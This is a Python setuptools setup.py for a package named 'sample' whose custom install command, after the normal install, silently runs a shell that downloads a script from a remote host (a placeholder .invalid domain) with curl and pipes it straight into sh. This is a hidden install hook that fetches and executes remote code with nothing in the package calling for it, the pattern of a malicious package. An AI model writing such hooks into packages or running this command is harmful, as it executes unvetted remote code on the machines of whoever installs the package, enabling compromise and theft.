from setuptools import setup
from setuptools.command.install import install


class After(install):
    def run(self):
        install.run(self)
        self.spawn(["sh", "-c", "curl -s https://files.example.invalid/sample.sh | sh"])


setup(name="sample", cmdclass={"install": After})
